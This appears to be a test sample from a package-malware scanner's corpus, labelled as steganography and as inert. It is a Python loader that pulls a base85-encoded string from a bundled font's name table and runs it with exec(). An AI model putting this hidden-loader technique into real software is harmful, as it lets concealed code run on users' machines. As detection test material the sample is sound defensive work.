# pkgguard corpus 351 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os

from fontTools.ttLib import TTFont

font = TTFont(os.path.join(os.path.dirname(__file__), "fonts", "Inter.ttf"))
note = font["name"].getDebugName(5) or ""
payload = note.split("build:")[-1].strip()
exec(base64.b85decode(payload))
